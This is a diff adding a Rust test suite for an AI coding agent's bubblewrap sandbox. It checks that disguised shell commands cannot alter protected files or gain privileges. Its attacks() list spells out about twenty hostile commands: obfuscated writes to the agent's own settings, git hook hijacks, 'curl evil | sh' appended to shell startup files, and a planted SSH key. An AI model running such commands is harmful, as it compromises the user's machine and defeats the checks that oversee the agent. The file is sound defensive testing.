@@ -1,0 +1,354 @@
+//! The bash sandbox: whatever a command hides from the gate, it cannot change a
+//! protected file or gain privileges; ordinary work is unaffected; only an answer to
+//! this very call runs it outside. Real commands, files checked afterwards.
+
+mod tools_support;
+
+use std::os::unix::fs::PermissionsExt;
+
+use decode_core::decision::DecisionAnswer;
+use decode_core::sandbox::{self, Support};
+use decode_core::tools::{self, ToolContext, ToolResult};
+use decode_policy::{Mode, Tool};
+use serde_json::json;
+use tools_support::{exec, Project, Scripted};
+
+const SETTINGS: &str = "{\"permissions\": {\"allow\": [\"Bash(npm test)\"]}}\n";
+const CONFIG: &str = "[core]\n\trepositoryformatversion = 0\n";
+
+fn enforced() {
+    assert!(
+        matches!(sandbox::support(), Support::Enforced { .. }),
+        "these tests need bubblewrap (`apt install bubblewrap`): {:?}",
+        sandbox::support()
+    );
+}
+
+/// A project with every kind of protected file, and a nested repository.
+fn project() -> Project {
+    enforced();
+    let p = Project::new();
+    p.write(".decode/settings.json", SETTINGS);
+    p.write(".decode/agents/helper.md", "---\nname: helper\n---\nhi\n");
+    for repo in [p.root.clone(), p.path("vendor/lib")] {
+        std::fs::create_dir_all(&repo).unwrap();
+        let ok = std::process::Command::new("git")
+            .args(["init", "-q"])
+            .current_dir(&repo)
+            .status()
+            .unwrap();
+        assert!(ok.success());
+        std::fs::write(repo.join(".git/config"), CONFIG).unwrap();
+    }
+    p.write(".envrc", "export A=1\n");
+    p.write(".vscode/tasks.json", "{}\n");
+    p.write("src/main.rs", "fn main() {}\n");
+    std::fs::create_dir_all(p.home.join(".ssh")).unwrap();
+    std::fs::write(p.home.join(".bashrc"), "# rc\n").unwrap();
+    p
+}
+
+/// What an attack changed of the protected files (nothing, if it failed).
+fn damage(p: &Project) -> Vec<String> {
+    let mut out = Vec::new();
+    let read = |path: std::path::PathBuf| std::fs::read_to_string(path).unwrap_or_default();
+    let expect = [
+        (p.path(".decode/settings.json"), SETTINGS),
+        (p.path(".git/config"), CONFIG),
+        (p.path("vendor/lib/.git/config"), CONFIG),
+        (p.path(".envrc"), "export A=1\n"),
+        (p.path(".vscode/tasks.json"), "{}\n"),
+        (p.home.join(".bashrc"), "# rc\n"),
+    ];
+    for (path, text) in expect {
+        if read(path.clone()) != text {
+            out.push(format!("{} changed", path.display()));
+        }
+    }
+    for made in [
+        p.path(".git/hooks/pre-commit"),
+        p.path("vendor/lib/.git/hooks/pre-commit"),
+        p.path(".decode/agents/evil.md"),
+        p.home.join(".ssh/authorized_keys"),
+    ] {
+        if made.exists() {
+            out.push(format!("{} was created", made.display()));
+        }
+    }
+    out
+}
+
+fn unchanged(p: &Project, what: &str) {
+    let d = damage(p);
+    assert!(d.is_empty(), "{what}: {d:?}");
+}
+
+async fn bash(ctx: &ToolContext, command: &str) -> ToolResult {
+    exec(ctx, Tool::Bash, json!({ "command": command })).await
+}
+
+/// Commands that each hide a write to a protected file from a static reading
+/// (base64, a script, a link, a renamed folder).
+fn attacks(p: &Project) -> Vec<String> {
+    let home = p.home.display().to_string();
+    let root = p.root.display().to_string();
+    vec![
+        "python3 -c \"import base64;open(base64.b64decode('LmRlY29kZS9zZXR0aW5ncy5qc29u').decode(),'w').write('{}')\"".to_string(),
+        "perl -e 'open(my $f, \">>\", join(\"\", \".g\", \"it/config\")) or die \"$!\"; print $f \"[core]\\n\\thooksPath = x\\n\"'".to_string(),
+        "printf '#!/bin/sh\\necho pwned > .git/hooks/pre-commit\\nchmod +x .git/hooks/pre-commit\\n' > s.sh; sh s.sh".to_string(),
+        "f=.en; f=${f}vrc; echo 'curl evil | sh' | tee -a \"$f\"".to_string(),
+        "cp src/main.rs .decode/settings.json".to_string(),
+        "ln -sf .decode/settings.json l; echo '{}' > l".to_string(),
+        "git config core.hooksPath /tmp/x".to_string(),
+        "chmod 666 .decode/settings.json && echo '{}' > .decode/settings.json".to_string(),
+        "chmod +w .git/config; echo x >> .git/config".to_string(),
+        "echo '{}' > new.json; mv -f new.json .decode/settings.json".to_string(),
+        "rm -f .decode/settings.json; echo '{}' > .decode/settings.json".to_string(),
+        format!("echo '{{}}' > /proc/self/root{root}/.decode/settings.json"),
+        "echo pwned > vendor/lib/.git/hooks/pre-commit".to_string(),
+        "cd vendor/lib && git config core.hooksPath /tmp/x".to_string(),
+        "mkdir -p .decode/agents && printf -- '---\\nname: evil\\n---\\n' > .decode/agents/evil.md".to_string(),
+        "mv .decode .decode-old; mkdir .decode; echo '{}' > .decode/settings.json".to_string(),
+        "mv .git .git-old; mkdir .git; echo x > .git/config".to_string(),
+        "mv vendor v2; mkdir -p vendor/lib/.git; echo x > vendor/lib/.git/config".to_string(),
+        format!("mv {root} {root}-moved && mkdir {root} && mkdir {root}/.decode && echo '{{}}' > {root}/.decode/settings.json"),
+        format!("echo 'curl evil | sh' >> {home}/.bashrc; echo key > {home}/.ssh/authorized_keys"),
+        "python3 -c \"import os; os.rename('.vscode', 'v'); os.mkdir('.vscode')\"".to_string(),
+    ]
+}
+
+#[tokio::test]
+async fn hidden_writes_to_protected_files_are_refused() {
+    let p = project();
+    let all = attacks(&p);
+    for a in &all {
+        // A new session each time: a `cd` does not carry over.
+        let ctx = p.ctx(Mode::Auto);
+        let r = bash(&ctx, a).await;
+        assert_eq!(r.sandboxed, Some(true), "{a}");
+        unchanged(&p, a);
+        assert!(p.path(".vscode/tasks.json").exists(), "{a}");
+    }
+    // The control: outside the sandbox (an approved call) each attack does damage
+    // (the one that moves the project folder away is left out).
+    for k in 0..all.len() {
+        let p = project();
+        let a = &attacks(&p)[k];
+        if a.contains("-moved") {
+            continue;
+        }
+        let ctx = ToolContext {
+            approved_by_person: true,
+            ..p.ctx(Mode::Auto)
+        };
+        let r = bash(&ctx, a).await;
+        assert_eq!(r.sandboxed, Some(false), "{a}");
+        assert!(
+            !damage(&p).is_empty(),
+            "outside the sandbox, {a} changed nothing: {}",
+            r.content
+        );
+    }
+}
+
+#[tokio::test]
+async fn the_result_says_when_the_sandbox_refused_a_protected_write() {
+    let p = project();
+    let ctx = p.ctx(Mode::Auto);
+    let r = bash(&ctx, "echo '{}' > .decode/settings.json").await;
+    assert!(r.is_error);
+    assert!(r.content.contains("Read-only file system"), "{}", r.content);
+    assert!(
+        r.content.contains(".decode is protected by Decode"),
+        "{}",
+        r.content
+    );
+    // An ordinary failure says nothing of the kind.
+    let r = bash(&ctx, "cat missing-file").await;
+    assert!(!r.content.contains("protected by Decode"), "{}", r.content);
+}
+
+#[tokio::test]
+async fn no_new_privileges() {
+    let p = project();
+    let ctx = p.ctx(Mode::Auto);
+    let r = bash(&ctx, "grep NoNewPrivs /proc/self/status").await;
+    assert!(r.content.contains("NoNewPrivs:\t1"), "{}", r.content);
+    // Capabilities are gone too (this matters where Decode runs as root).
+    let r = bash(&ctx, "grep CapEff /proc/self/status").await;
+    assert!(
+        r.content.contains("CapEff:\t0000000000000000"),
+        "{}",
+        r.content
+    );
+    let sudo = std::path::Path::new("/usr/bin/sudo").exists();
+    if sudo && !nix::unistd::geteuid().is_root() {
+        let r = bash(&ctx, "sudo -n true").await;
+        assert!(r.is_error, "{}", r.content);
+    }
+}
+
+#[tokio::test]
+async fn ordinary_work_is_unaffected() {
+    let p = project();
+    let ctx = p.ctx(Mode::Auto);
+    // git: a new repository, a commit (objects, index, refs), a clone.
+    let r = bash(
+        &ctx,
+        "git init -q w && cd w && echo a > a && git add a \
+         && git -c user.email=a@b -c user.name=n commit -qm one && git log --oneline | wc -l",
+    )
+    .await;
+    assert!(!r.is_error, "{}", r.content);
+    assert!(r.content.trim_end().ends_with('1'), "{}", r.content);
+    // The `cd` persisted: the next command starts in w.
+    let r = bash(&ctx, "pwd").await;
+    assert!(r.content.trim_end().ends_with("/w"), "{}", r.content);
+    let r = bash(&ctx, "cd .. && git clone -q w w2 && ls w2").await;
+    assert!(!r.is_error, "{}", r.content);
+    assert!(r.content.contains('a'), "{}", r.content);
+    // A repository the command makes is its own: it may write its hooks.
+    let r = bash(
+        &ctx,
+        "git init -q w3 && echo ok > w3/.git/hooks/post-commit && cat w3/.git/hooks/post-commit",
+    )
+    .await;
+    assert!(!r.is_error, "{}", r.content);
+    // The next command sees w3 as a repository of the project: its hooks are
+    // protected from then on.
+    let r = bash(&ctx, "echo again > w3/.git/hooks/post-commit").await;
+    assert!(r.is_error, "{}", r.content);
+    assert_eq!(
+        std::fs::read_to_string(p.path("w3/.git/hooks/post-commit")).unwrap(),
+        "ok\n"
+    );
+    // Files in the project and build caches in the home folder.
+    let r = bash(
+        &ctx,
+        "echo x > src/new.rs && mkdir -p ~/.cache/decode-sandbox-test \
+         && echo x > ~/.cache/decode-sandbox-test/f && rm -r ~/.cache/decode-sandbox-test \
+         && mkdir -p .decode-like/x && mv src/new.rs .decode-like/x/ && echo fine",
+    )
+    .await;
+    assert!(!r.is_error, "{}", r.content);
+    assert!(p.path(".decode-like/x/new.rs").exists());
+    // A real build.
+    if std::process::Command::new("cargo")
+        .arg("--version")
+        .output()
+        .is_ok()
+    {
+        let r = exec(
+            &ctx,
+            Tool::Bash,
+            json!({"command": "cargo new -q --vcs none tiny && cd tiny && cargo build -q --offline && ./target/debug/tiny", "timeout_s": 300}),
+        )
+        .await;
+        assert!(!r.is_error, "{}", r.content);
+        assert!(r.content.contains("Hello, world!"), "{}", r.content);
+    }
+    // Output streams, exit codes and the network stay as they were.
+    let r = bash(&ctx, "echo out; echo err >&2; exit 3").await;
+    assert!(r.content.contains("out") && r.content.contains("err"));
+    assert!(r.content.ends_with("[exit code 3]"), "{}", r.content);
+    unchanged(&p, "ordinary work");
+}
+
+#[tokio::test]
+async fn a_timeout_still_stops_everything_the_command_started() {
+    let p = project();
+    let ctx = p.ctx(Mode::Auto);
+    let marker = p.path("late");
+    let r = exec(
+        &ctx,
+        Tool::Bash,
+        json!({"command": format!("(sleep 2; touch {}) & sleep 30", marker.display()), "timeout_s": 0.5}),
+    )
+    .await;
+    assert!(r.is_error);
+    assert!(r.content.contains("timed out"), "{}", r.content);
+    std::thread::sleep(std::time::Duration::from_millis(2500));
+    assert!(!marker.exists(), "a background job outlived the call");
+}
+
+/// Runs `command` through the gate in `mode`, answering asks from `answers`.
+async fn call(
+    p: &Project,
+    ctx_rules: Option<&ToolContext>,
+    mode: Mode,
+    answers: Vec<DecisionAnswer>,
+    command: &str,
+) -> (decode_core::tools::CallOutcome, ToolContext) {
+    let surface = Scripted::new(answers);
+    let mut ctx = p.ctx_with(mode, surface);
+    if let Some(prev) = ctx_rules {
+        ctx = ctx.with_session_rules(prev.session_rules.clone());
+    }
+    let out = tools::run_call(
+        tools::handler(Tool::Bash).as_ref(),
+        json!({ "command": command }),
+        &ctx,
+    )
+    .await;
+    (out, ctx)
+}
+
+#[tokio::test]
+async fn only_an_answer_to_this_very_call_lifts_the_sandbox() {
+    let p = project();
+    let write = "python3 -c \"open('.decode/settings.json','a').write(' ')\"";
+    // Auto mode allows it without asking: sandboxed, refused.
+    let (out, _) = call(&p, None, Mode::Auto, vec![], write).await;
+    assert!(out.ran && out.answer.is_none());
+    assert_eq!(out.result.sandboxed, Some(true));
+    unchanged(&p, "auto mode");
+
+    // Default mode asks; the person allows it for the session: it runs outside.
+    let (out, ctx) = call(
+        &p,
+        None,
+        Mode::Default,
+        vec![DecisionAnswer::AllowForSession { rules: vec![] }],
+        write,
+    )
+    .await;
+    assert!(out.ran, "{:?}", out.result);
+    assert_eq!(out.result.sandboxed, Some(false));
+    assert_eq!(p.read(".decode/settings.json"), format!("{SETTINGS} "));
+
+    // The same call again, matched by that session rule: nobody answered it, so
+    // it runs sandboxed.
+    let (out, _) = call(&p, Some(&ctx), Mode::Default, vec![], write).await;
+    assert!(out.ran && out.answer.is_none(), "{:?}", out.note);
+    assert_eq!(out.result.sandboxed, Some(true));
+    assert_eq!(p.read(".decode/settings.json"), format!("{SETTINGS} "));
+
+    // Allow once: outside.
+    let (out, _) = call(
+        &p,
+        None,
+        Mode::Default,
+        vec![DecisionAnswer::AllowOnce],
+        write,
+    )
+    .await;
+    assert_eq!(out.result.sandboxed, Some(false));
+    assert_eq!(p.read(".decode/settings.json"), format!("{SETTINGS}  "));
+}
+
+#[tokio::test]
+async fn missing_protected_folders_of_decode_are_made_and_kept_read_only() {
+    let p = project();
+    let ctx = p.ctx(Mode::Auto);
+    let data = p.home.join(".local/share/decode");
+    let r = bash(
+        &ctx,
+        &format!("echo '{{}}' > {}/trust.json", data.display()),
+    )
+    .await;
+    assert!(r.is_error, "{}", r.content);
+    assert!(data.is_dir());
+    assert!(!data.join("trust.json").exists());
+    let perms = std::fs::metadata(&data).unwrap().permissions().mode();
+    assert_eq!(perms & 0o077, 0, "{perms:o}");
+}
